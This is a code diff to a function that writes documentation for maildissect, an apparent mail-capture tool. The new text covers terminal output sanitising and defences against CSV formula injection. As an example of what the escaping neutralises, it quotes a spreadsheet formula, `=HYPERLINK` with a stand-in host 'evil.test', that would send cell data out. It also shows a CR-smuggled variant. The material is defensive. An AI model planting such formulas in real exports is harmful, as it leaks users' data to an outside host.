@@ -192,7 +192,11 @@ def output_markdown() -> list[str]:
         "opens a placeholder. `follow --format ascii` prints tshark's text (printable ASCII, TAB, LF, CR; "
         "any other byte as `.`); on a terminal a CR that does not end a line is shown as `.` too, since "
         "it would let the bytes after it overwrite the line. JSON lines (`-f jsonl`, `live --format "
-        "jsonl`) write the same characters as `\\u` escapes: the same JSON values, inert on a terminal.", "",
+        "jsonl`) write the same characters as `\\u` escapes: the same JSON values, inert on a terminal. "
+        "CSV printed to a terminal (`-f csv` without `-o`, standard output a terminal) passes the same "
+        "cleaner; to a file or a pipe it keeps the text as it is. Bytes as they are never go to a terminal: "
+        "`follow -f raw` and `-f parquet` without `-o` are refused there with a one-line error (a pipe or "
+        "`-o FILE` gets them; `follow -f raw -o -` insists).", "",
         "### CSV", "",
         "Spreadsheets run a cell that starts with `=`, `+`, `-` or `@` (and some a TAB or CR) as a "
         "formula. In every CSV maildissect writes (`-f csv` of the listing commands, `timeline` and "
@@ -200,7 +204,10 @@ def output_markdown() -> list[str]:
         "OWASP's advice on CSV injection: `=HYPERLINK(\"https://evil.test/?\"&A2)` is written "
         "`'=HYPERLINK(...)`, a POP3 reply `-ERR` is written `'-ERR`. Numbers are not text and are never "
         "changed (a negative latency stays a number); list cells are JSON text (`[\"=a@b\"]`) and start "
-        "with `[`. `--csv-raw` writes text cells as they are, for programs that read the CSV.", "",
+        "with `[`. `--csv-raw` writes text cells as they are, for programs that read the CSV. Rows end "
+        "with CRLF (RFC 4180), so a CR or LF inside a cell is always quoted: a bare CR in an unquoted "
+        "cell would start a new row in a spreadsheet, with the rest of the cell "
+        "(`x\\r=HYPERLINK(...)`) as a formula in its first cell.", "",
     ]
     return lines
 
